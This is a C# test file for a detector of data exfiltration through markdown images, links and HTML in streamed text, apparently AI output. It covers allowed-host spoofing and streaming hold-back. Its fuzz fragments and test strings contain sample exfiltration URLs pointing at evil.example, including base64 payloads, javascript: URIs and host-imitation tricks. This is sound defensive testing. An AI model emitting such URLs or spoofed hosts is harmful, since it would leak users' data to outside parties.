using Cordon.Contracts;
using Cordon.Detection.Exfiltration;
using FsCheck;
using FsCheck.Fluent;

namespace Cordon.Detection.Tests.Exfiltration;

public sealed class ExfiltrationDetectorTests(ITestOutputHelper output)
{
    private static readonly ExfiltrationDetector Detector = new(DetectionSettings.Default);

    private static readonly string[] Pieces =
    [
        "![", "[", "]", "](", ")", "<", ">", "<img src=\"", "\"", "'", "<a href='", "<meta http-equiv=refresh content=\"0;url=", "http://", "https://", "https:\\\\", "//", "evil.example",
        "/p.png?d=", "%20", "+", "secret words, many of them", "?q=a+b+c+d", "dXNlciBqYW5lQGV4YW1wbGUuY29tIGhlbGxv", " ", "\n", "\n\n", "[id]: ", "][id]", "javascript:", "alert(1)", "data:text/html,",
        "url(", "@import ", "xn--e1awd7f.example", "user@", "1.2.3.4", "[::1]", "\ud83d", "é", "h", "ht", "a", ":", "(", "{{data}}", "style=\"background:url(", "srcset=\"",
    ];

    public static TheoryData<string> Kinds => [.. SharedData.Vectors("exfiltration").Select(v => v.Id)];

    [Theory]
    [MemberData(nameof(Kinds))]
    public void A_kind_finds_what_it_must_and_nothing_that_it_must_not(string id)
    {
        (_, List<string> match, List<string> miss) = SharedData.Vectors("exfiltration").Single(v => v.Id == id);
        Assert.All(match, text => Assert.Contains(StreamPromise.Find(Detector, text), f => f.Rule == id));
        Assert.All(miss, text => Assert.DoesNotContain(StreamPromise.Find(Detector, text), f => f.Rule == id));
    }

    [Fact]
    public void The_span_is_the_url()
    {
        const string text = "See ![a (b)](https://x.example/p(1).png?d=one+two+three+four) there";
        Finding finding = Assert.Single(StreamPromise.Find(Detector, text));
        Assert.Equal("https://x.example/p(1).png?d=one+two+three+four", text[finding.Start..finding.End]);
    }

    [Theory]
    [InlineData("![x](https://docs.example.com/p?d=one+two+three+four)", 0)]
    [InlineData("![x](https://a.cdn.example.net/p?d=one+two+three+four)", 0)]
    [InlineData("![x](https://cdn.example.net/p?d=one+two+three+four)", 1)]
    [InlineData("![x](https://docs.example.com@evil.example/p?d=one+two+three+four)", 1)]
    [InlineData("![x](https://docs.example.com.evil.example/p?d=one+two+three+four)", 1)]
    [InlineData("![x](https://evil.example/docs.example.com?d=one+two+three+four)", 1)]
    public void Allowed_hosts_may_be_pointed_at_and_their_imitations_not(string text, int findings)
    {
        var detector = new ExfiltrationDetector(DetectionSettings.Default with { AllowedHosts = ["docs.example.com", "*.cdn.example.net"] });
        Assert.Equal(findings, StreamPromise.Find(detector, text).Count);
    }

    [Fact]
    public void A_stream_releases_no_character_of_what_is_still_to_come() =>
        Prop.ForAll(ArbMap.Default.ArbFor<int[]>(), picks => StreamPromise.Holds(Detector, StreamPromise.Compose(Pieces, picks)))
            .Check(Config.QuickThrowOnFailure.WithMaxTest(400));

    [Fact]
    public void No_string_makes_it_throw() =>
        Prop.ForAll(ArbMap.Default.ArbFor<string>(), text => StreamPromise.Holds(Detector, text ?? ""))
            .Check(Config.QuickThrowOnFailure.WithMaxTest(300));

    [Theory]
    [InlineData("See ![status](https://x.example/p", 4)]
    [InlineData("See ![sta", 4)]
    [InlineData("See <img alt='x' sr", 4)]
    [InlineData("See [this](", 4)]
    [InlineData("a[0] = 1; ", 10)]
    [InlineData("1 < 2 and so on", 15)]
    public void Markup_is_held_from_where_it_opens(string text, int hold) => Assert.Equal(hold, StreamPromise.Hold(Detector, text));

    [Fact]
    public void Generated_exfiltration_is_told_from_links_of_real_documents()
    {
        List<SharedData.Row> rows = SharedData.Rows("exfil_markdown");
        int positives = 0, found = 0, surely = 0, flagged = 0, images = 0;
        foreach (SharedData.Row row in rows)
        {
            double score = StreamPromise.Find(Detector, row.Text).Select(f => f.Score).DefaultIfEmpty(0).Max();
            positives += row.Positive ? 1 : 0;
            found += row.Positive && score >= 0.5 ? 1 : 0;
            surely += row.Positive && score >= 0.9 ? 1 : 0;
            flagged += !row.Positive && score >= 0.5 ? 1 : 0;
            images += !row.Positive && score >= 0.9 ? 1 : 0;
        }

        int negatives = rows.Count - positives;
        output.WriteLine($"exfil_markdown: n={positives}, found {found} ({(double)found / positives:P1}), of those >= 0.9: {surely}; ordinary n={negatives}, flagged {flagged} ({(double)flagged / negatives:P2}), of those >= 0.9: {images}");
        Assert.True(found > 0.95 * positives && flagged < 0.02 * negatives);
    }

    [Theory]
    [InlineData("bn_chat")]
    [InlineData("bn_support_queries")]
    [InlineData("bn_code_requests")]
    [InlineData("bn_toolcalls_glaive")]
    public void Ordinary_text_carries_nothing_out(string file)
    {
        List<SharedData.Row> rows = SharedData.Rows(file);
        int flagged = rows.Count(row => StreamPromise.Find(Detector, row.Text).Exists(f => f.Score >= 0.5));
        output.WriteLine($"{file}: n={rows.Count}, flagged {flagged} ({(double)flagged / rows.Count:P3})");
        Assert.True(flagged < 0.001 * rows.Count + 1);
    }
}
